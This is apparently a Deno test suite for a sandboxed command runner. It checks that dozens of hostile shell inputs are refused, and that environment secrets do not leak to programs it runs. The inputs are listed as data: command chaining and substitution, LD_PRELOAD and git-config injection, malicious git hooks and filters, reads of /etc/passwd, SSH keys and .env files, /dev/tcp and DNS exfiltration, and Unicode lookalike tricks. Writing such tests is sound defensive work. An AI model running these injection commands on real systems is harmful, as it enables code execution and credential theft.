// Rows 1 to 30, 44 to 46 of the table of bad inputs: commands.
import assert from "node:assert/strict";
import { join } from "node:path";
import {
  CANARY,
  fails,
  holders,
  isPwned,
  line,
  POLICY,
  runLines,
  trustedBox,
} from "./_bad_input.ts";
import { sandbox } from "./_cli.ts";

/** Commands that must not run, by row. */
const COMMANDS: Readonly<Record<string, readonly string[]>> = {
  "1": ["cat a; touch PWN", "cat a;touch PWN", ";touch PWN"],
  "2": ["cat a && touch PWN", "cat nope || touch PWN"],
  "3": ["cat a & touch PWN"],
  "4": ["cat a | tee PWN", "cat a |& tee PWN"],
  "5": [">", ">>", ">|", "&>", "<>"].map((sign) => `cat a ${sign} PWN`),
  "6": ["cat $(touch PWN) a", "cat `touch PWN` a"],
  "7": ["cat <(touch PWN)", "cat >(touch PWN)"],
  "8": ["\u2028", "\u2029", "\u0085", "\v", "\f"].map((end) => `cat a${end}touch PWN`),
  "10": ['cat "${x:=$(touch PWN)}"', "cat ${x@P}", "cat $((a[$(touch PWN)]))"],
  "12": [`${"cat a;".repeat(51)}touch PWN`],
  "13": [`cat ${"x".repeat(1 << 20)};touch PWN`, `cat ${"(".repeat(10_000)}`, "cat 'a"],
  "14": "env command nice timeout xargs nohup stdbuf busybox".split(" ").map((name) =>
    `${name} touch PWN`
  ),
  "15": ["PATH=.:$PATH cat a", "./cat a", "bin/cat a", "/bin/cat a"],
  "16": "LD_PRELOAD GIT_SSH_COMMAND GIT_EXTERNAL_DIFF PAGER NODE_OPTIONS".split(" ").map((name) =>
    `${name}=./evil git status`
  ),
  "17": ["export PATH=."],
  "18": ["f() { touch PWN; }", "alias cat=touch", ". ./evil", "source ./evil", "eval 'touch PWN'"]
    .concat(["exec touch PWN", "trap 'touch PWN' EXIT"]),
  "19": ["git -c core.pager=./evil status", "git -c alias.x=!touch\\ PWN x"]
    .concat(["git --exec-path=. status", "git -C ../other status"]),
  "21": [
    "git diff --ext-diff",
    "git diff --output=PWN",
    "git log --textconv",
    "git grep -O./evil x",
  ],
  "22": ["git fetch --upload-pa=./evil", "tar --use-compress-pro=./evil -cf PWN a"],
  "23": ["find . -exec touch PWN {} +", "find . -fprintf PWN x", "find . -delete"]
    .concat(["rg --pre ./evil a", "sed -n w\\ PWN a", "awk 'BEGIN{system(\"touch PWN\")}'"])
    .concat(["tar -cf PWN --to-command=./evil a", "man -P ./evil ls"]),
  "25": ["npm test -- --help; x", "npm testx", "NPM test", "npm run test", "npm test --x"],
  "26": ["\uff43at a", "c\u200bat a", "\u202ecat a", "c\u0430t a", "cat a\0", "\x1b[2Jcat a"],
  "27": [`cat a${" ".repeat(500)}; touch PWN`],
  "28": ["{cat,a}", "/bin/c?t a", "cat a*", "$'\\x63at' a", "cat ~/x"],
  "29": ['python3 -c \'open("PWN","w")\'', "node -e 1", "deno eval 1", "perl -e 1"]
    .concat(["bash -lc 'touch PWN'", "sh evil"]),
  "30": ["ping $(whoami).x", "dig x.example", "git push ext::./evil", "curl file:///etc/passwd"],
  "31": ["cat ../secret", "cat /etc/passwd", "cat ~/.ssh/id_rsa", "cat $HOME/x", "cat file:///x"],
  "40": ["cat /proc/self/environ", "cat /dev/tcp/x/1", "cat fifo", "cat /dev/zero"],
  "41": ["cat .env", "cat -- .env"],
};

Deno.test("rows 1 to 30: commands that are more than an allowed command do not run", async () => {
  await using box = await trustedBox();
  for (const name of ["cat", "bin/cat", "evil"]) {
    await box.write(name, "#!/bin/sh\ntouch PWN\n");
    await Deno.chmod(join(box.ws, name), 0o755);
  }
  await box.write(".env", CANARY);
  await Deno.writeTextFile(join(box.folder, "secret"), CANARY);
  await new Deno.Command("mkfifo", { args: [join(box.ws, "fifo")] }).output();
  const rows = Object.entries(COMMANDS).flatMap(([row, commands]) =>
    commands.map((command) => ({ row, command }))
  );
  const { ends, stdout, stderr } = await runLines(box, [
    "exec cat a",
    ...rows.map(({ command }) => line("exec", command)),
    'exec "c\\"\\"at a"',
    "exec npm test",
    "exec cat a",
  ]);
  assert.equal(ends.length, rows.length + 4, stderr);
  for (const [i, { row, command }] of rows.entries()) {
    const { ok, exitCode, text, ms } = ends[i + 1]!;
    assert.deepEqual(
      { ok, exitCode },
      { ok: false, exitCode: 1 },
      `row ${row}: ${command}\n${text}`,
    );
    assert.notEqual(text, "", `row ${row}`);
    assert.ok(ms < 1_000, `row ${row} took ${ms} ms`);
  }
  for (const end of [ends[0]!, ...ends.slice(-3)]) assert.ok(end.ok, end.text);
  assert.equal(ends.at(-1)!.text, "content of a");
  // deno-lint-ignore no-control-regex -- nothing may act on a terminal
  assert.doesNotMatch(stdout + stderr, /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e]/);
  assert.ok(!await isPwned(box));
  assert.deepEqual(await holders(box, CANARY, ["secret", "ws/.env"]), []);
});

Deno.test("rows 8, 9, 11: commands of several lines do not run", async () => {
  await using box = await trustedBox();
  const commands = [
    ...["\n", "\r\n", "\r"].map((end) => `cat a${end}touch PWN`),
    "cat <<EOF\n$(touch PWN)\nEOF",
    "cat a # it's\ntouch PWN #'",
  ];
  for (const command of commands) await fails(box, ["exec", command], 1, /not run because of/);
  // Words that were split by the caller's shell are as free of structure as one line.
  await fails(box, ["exec", "--", "cat", "a", ";", "touch", "PWN"], 1, /./);
  await fails(box, ["exec", "--", "cat", "a\ntouch PWN"], 1, /./);
  assert.ok(!await isPwned(box));
});

Deno.test("row 20: a repository's config, hooks and filters start nothing", async () => {
  await using box = await trustedBox();
  const git = (...args: string[]) => new Deno.Command("git", { args, cwd: box.ws }).output();
  await git("init", "-q");
  await box.write("evil.sh", "#!/bin/sh\ntouch PWN\ncat\n");
  await box.write(".gitattributes", "* filter=evil diff=evil\n");
  for (const hook of ["pre-commit", "commit-msg", "post-commit", "post-index-change"]) {
    await box.write(`.git/hooks/${hook}`, "#!/bin/sh\ntouch PWN\n");
    await Deno.chmod(join(box.ws, ".git/hooks", hook), 0o755);
  }
  await Deno.chmod(join(box.ws, "evil.sh"), 0o755);
  for (
    const [key, value] of [
      ["user.name", "n"],
      ["user.email", "n@e"],
      ["core.fsmonitor", "./evil.sh"],
      ["core.pager", "./evil.sh"],
      ["diff.external", "./evil.sh"],
      ["diff.evil.textconv", "./evil.sh"],
      ["filter.evil.clean", "./evil.sh"],
      ["alias.status", "!./evil.sh"],
    ] as const
  ) await git("config", key, value);
  const { ends } = await runLines(box, [
    "git_status",
    "git_add a",
    "git_diff --staged",
    "git_diff",
    "git_commit -m first",
    "git_log",
  ]);
  assert.equal(ends.length, 6);
  assert.ok(!await isPwned(box), JSON.stringify(ends));
});

Deno.test("rows 24, 44, 45: trust ends when the policy or what it allows changes", async () => {
  await using box = await trustedBox();
  const untrusted = /nobody can be asked here/;
  await box.write(
    "package.json",
    '{ "scripts": { "pretest": "touch PWN", "test": "touch PWN" } }\n',
  );
  const refused = await box.cli(["exec", "npm", "test"]);
  assert.equal(refused.code, 1);
  assert.match(refused.stderr, untrusted);
  assert.ok(!await isPwned(box));
  await using other = await sandbox({ ".dspy_policy.yaml": POLICY, "a": "text\n" });
  const headless = await other.cli(["exec", "cat", "a"]);
  assert.equal(headless.code, 1);
  assert.match(headless.stderr, /until you trust this text[^]*nobody can be asked here/);
});

Deno.test("row 46: a program sees none of our environment's secrets", async () => {
  await using box = await sandbox();
  const env = Object.fromEntries(
    ["OPENAI_API_KEY", "MY_PAT", "DB_DSN", "SESSION", "GITHUB_TOKEN", "LD_X"].map((
      name,
    ) => [name, CANARY]),
  );
  const { code, stdout, stderr } = await box.cli(["--yes", "exec", "printenv"], {
    env: { ...env, HTTPS_PROXY: `http://user:${CANARY}@proxy.test:1` },
  });
  assert.equal(code, 0, stderr);
  assert.match(stdout, /^PATH=/m);
  assert.ok(!stdout.includes(CANARY), stdout);
  assert.match(stdout, /^HOME=(?!.*\/home$)/m);
});
